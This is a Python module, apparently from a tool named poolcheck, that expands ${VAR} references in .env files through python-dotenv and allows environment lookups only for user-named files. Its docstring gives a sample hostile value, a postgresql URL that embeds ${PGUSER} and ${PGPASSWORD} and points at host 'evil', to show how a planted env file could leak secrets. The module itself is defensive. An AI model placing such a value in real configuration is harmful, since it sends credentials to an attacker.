"""Fill in `${DB_PASS}` in an env file's values, as python-dotenv does when an app starts; only where they are used to connect.

What comes from the environment is the user's to give: to the file that --env-file names. A file that was found in a folder
may be anybody's, and `postgresql://${PGUSER}:${PGPASSWORD}@evil/` in it would carry the environment's secrets away.
"""

import logging
import os
from collections.abc import Mapping
from dataclasses import replace
from io import StringIO

from dotenv import dotenv_values

from poolcheck.readers.env.dotenv import EnvFile
from poolcheck.readers.env.lexer import Entry
from poolcheck.record import dataclass

_LONGEST = 1_000_000  # characters that python-dotenv is given


@dataclass(frozen=True, slots=True)
class Filled:
    """The file, with whole values where they could be made; and by variable, the names that are set nowhere."""

    env: EnvFile
    lacking: Mapping[str, tuple[str, ...]]


def fill_in(env: EnvFile, *, environment: bool) -> Filled:
    """Fill in from the file itself, and from the process's environment where that is allowed."""
    if not any(entry.interpolated for entry in env.active):
        return Filled(env, {})
    text = "".join(env.lines)
    if len(text) > _LONGEST or any(problem.kind == "expands-too-far" for problem in env.problems):
        return Filled(env, {})
    lacking = _lacking(env, os.environ if environment else {})
    values = _by_dotenv(text) if environment else {entry.key: entry.resolved for entry in env.active}
    return Filled(
        replace(env, entries=tuple(_whole(entry, values, lacking) for entry in env.entries)), lacking
    )


def _whole(entry: Entry, values: Mapping[str, str | None], lacking: Mapping[str, tuple[str, ...]]) -> Entry:
    if entry.commented or not entry.interpolated or entry.key in lacking or values.get(entry.key) is None:
        return entry
    return replace(entry, value=values[entry.key], resolved=values[entry.key], interpolated=())


def _lacking(env: EnvFile, environ: Mapping[str, str]) -> dict[str, tuple[str, ...]]:
    """By variable: the names in it, or in those that it is made of, that have neither a value nor a default."""
    made: dict[str, tuple[str, ...]] = {}
    for entry in env.active:
        names: dict[str, None] = {}
        for name in entry.interpolated:
            if name in made:
                names |= dict.fromkeys(made[name])
            elif name not in environ and f"${{{name}}}" in (entry.value or ""):
                names[name] = None
        made[entry.key] = tuple(names)
    return {key: names for key, names in made.items() if names}


def _by_dotenv(text: str) -> dict[str, str | None]:
    logging.getLogger("dotenv").addHandler(logging.NullHandler())  # it warns of lines that our reader names
    return dotenv_values(stream=StringIO(text))
